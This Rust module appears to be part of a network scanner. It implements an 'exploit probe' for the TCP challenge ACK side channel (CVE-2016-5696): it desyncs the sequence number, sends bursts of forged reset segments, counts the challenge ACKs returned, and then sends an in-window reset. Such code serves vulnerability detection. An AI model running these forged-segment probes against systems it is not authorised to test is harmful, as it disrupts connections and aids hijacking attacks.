//! The **exploit probe** for the challenge ACK side channel (CVE-2016-5696).
//!
//! One probe drives one transport session through:
//! 1. the handshake,
//! 2. a window desync that makes every forged segment a near miss,
//! 3. timed bursts of forged segments while a listener counts the challenge
//!    ACKs coming back,
//! 4. a corrective in-window reset.
//!
//! Affected kernels share one challenge ACK budget (100 per second) between
//! all connections, so a target answering only about that many of the
//! segments in a burst is enforcing the limit.

mod listener;

use std::sync::Arc;
use std::time::Duration;

use grill_common::config::ProbeSettings;
use grill_common::network::{routing::RoutingContext, target::Target};
use grill_common::utils::duration::format_elapsed;
use tokio::sync::watch;
use tokio::time::{self, Instant, MissedTickBehavior};
use tracing::debug;

use crate::error::ScanError;
use crate::network::session::{
    SegmentState, SessionOpener, TransportError, TransportSession,
};
use listener::Phase;

/// Added to the sequence number so the forged resets land just past the
/// expected one.
pub const WINDOW_OFFSET: u32 = 101;
/// Window advertised by the forged segments.
pub const PROBE_WINDOW: u16 = 2048;

/// Everything a single probe needs. Consumed by exactly one [`probe`] call.
#[derive(Debug, Clone)]
pub struct ScanTask {
    pub target: Target,
    pub routing: Arc<RoutingContext>,
    pub settings: ProbeSettings,
    pub local_port: u16,
    /// Delay before the session is opened.
    pub backoff: Duration,
}

/// One timed batch of forged segments and the challenge ACKs it provoked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Burst {
    pub challenge_acks: u32,
    pub elapsed: Duration,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// Bursts in the order they were sent.
    Measured(Vec<Burst>),
    HandshakeFailed,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanResult {
    pub target: Target,
    pub outcome: Outcome,
}

impl ScanResult {
    /// Renders the result as an output record:
    /// `addr:port,acks,elapsed[,acks,elapsed...]`.
    ///
    /// Results without a measurement have no record.
    pub fn to_record(&self) -> Option<String> {
        let Outcome::Measured(bursts) = &self.outcome else {
            return None;
        };

        let fields: Vec<String> = std::iter::once(self.target.to_string())
            .chain(bursts.iter().flat_map(|burst| {
                [burst.challenge_acks.to_string(), format_elapsed(burst.elapsed)]
            }))
            .collect();
        Some(fields.join(","))
    }
}

/// Runs the exploit probe described by `task` over a fresh session.
///
/// A failed handshake is reported in the result. Errors are reserved for
/// conditions that invalidate the whole scan. The session is closed on every
/// path.
pub async fn probe<O: SessionOpener>(opener: &O, task: ScanTask) -> Result<ScanResult, ScanError> {
    let target: Target = task.target;
    let mut session = opener
        .open(&task.routing, target, task.local_port)
        .map_err(|source| ScanError::Transport { target, source })?;

    let outcome = exchange(&mut session, &task).await;
    session.close();

    Ok(ScanResult {
        target,
        outcome: outcome?,
    })
}

async fn exchange<S: TransportSession>(session: &mut S, task: &ScanTask) -> Result<Outcome, ScanError> {
    let target: Target = task.target;
    let transport = |source: TransportError| ScanError::Transport { target, source };

    if !session.handshake().await {
        return Ok(Outcome::HandshakeFailed);
    }

    let inbound = session
        .take_inbound()
        .ok_or(TransportError::InboundTaken)
        .map_err(transport)?;

    desync(session.header_mut());

    let settings: &ProbeSettings = &task.settings;
    let deadline: Instant = Instant::now() + settings.listen_window();
    let (phase_tx, phase_rx) = watch::channel(Phase::Burst(0));
    let listener = tokio::spawn(listener::count_challenge_acks(
        inbound,
        phase_rx,
        settings.burst_count,
        deadline,
    ));

    let sent = send_bursts(session, task, &phase_tx).await;

    phase_tx.send_replace(Phase::Stopped);
    let counts: Vec<u32> = listener.await?;

    resync(session.header_mut());
    let reset = session.send_and_confirm().await;

    let elapsed: Vec<Duration> = sent?;
    reset.map_err(transport)?;

    debug!("{target} answered {counts:?} within {elapsed:?}");

    let bursts: Vec<Burst> = counts
        .into_iter()
        .zip(elapsed)
        .map(|(challenge_acks, elapsed)| Burst { challenge_acks, elapsed })
        .collect();

    Ok(Outcome::Measured(bursts))
}

/// Moves the next segments just outside the peer's expectations.
fn desync(header: &mut SegmentState) {
    header.window = PROBE_WINDOW;
    header.rst = true;
    header.seq = header.seq.wrapping_add(WINDOW_OFFSET);
}

/// Undoes [`desync`]'s offset, leaving a reset the peer will accept.
fn resync(header: &mut SegmentState) {
    header.seq = header.seq.wrapping_sub(WINDOW_OFFSET);
}

/// Sends every burst and returns how long each one took to transmit.
///
/// Bursts are aligned to a periodic timer: burst `n + 1` starts on the first
/// tick after burst `n` finished.
async fn send_bursts<S: TransportSession>(
    session: &mut S,
    task: &ScanTask,
    phase: &watch::Sender<Phase>,
) -> Result<Vec<Duration>, ScanError> {
    let settings: &ProbeSettings = &task.settings;
    let mut ticker = time::interval_at(Instant::now() + settings.burst_spacing, settings.burst_spacing);
    ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);

    let mut elapsed: Vec<Duration> = Vec::with_capacity(settings.burst_count);
    for index in 0..settings.burst_count {
        phase.send_replace(Phase::Burst(index));

        let start: Instant = Instant::now();
        for _ in 0..settings.probe_count {
            session
                .send_and_confirm()
                .await
                .map_err(|source| ScanError::Transport { target: task.target, source })?;
        }
        let took: Duration = start.elapsed();

        if took > settings.burst_budget {
            return Err(ScanError::Saturated {
                target: task.target,
                elapsed: took,
                budget: settings.burst_budget,
            });
        }
        elapsed.push(took);

        ticker.tick().await;
    }

    Ok(elapsed)
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
